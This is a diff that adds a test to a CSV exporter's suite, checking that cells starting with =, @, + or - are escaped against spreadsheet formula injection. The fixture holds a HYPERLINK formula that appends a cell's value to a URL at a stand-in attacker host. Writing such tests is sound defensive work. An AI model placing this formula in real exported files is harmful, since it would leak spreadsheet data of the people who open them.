@@ -57,6 +57,19 @@ describe('CSV', () => {
     expect(lines[2]).toBe('agency:crtdc,AGENCY,CN,"ศูนย์, จีน",China Rural <Tech> & Development,x,');
   });
 
+  it('neutralises cells a spreadsheet would run as formulas', () => {
+    const evil = {
+      ...nodes[0]!,
+      id: 'agency:x',
+      name_en: '=HYPERLINK("https://evil.example/?"&A1,"open")',
+      name_zh: '@SUM(1)',
+      name_th: '+1',
+      date: '-2',
+    };
+    const row = nodesToCsv([evil]).trimEnd().split('\r\n')[1];
+    expect(row).toBe('agency:x,AGENCY,TH,\'+1,"\'=HYPERLINK(""https://evil.example/?""&A1,""open"")",\'@SUM(1),\'-2');
+  });
+
   it('writes edges with their endpoints and labels', () => {
     const lines = edgesToCsv(edges).trimEnd().split('\r\n');
     expect(lines).toEqual([
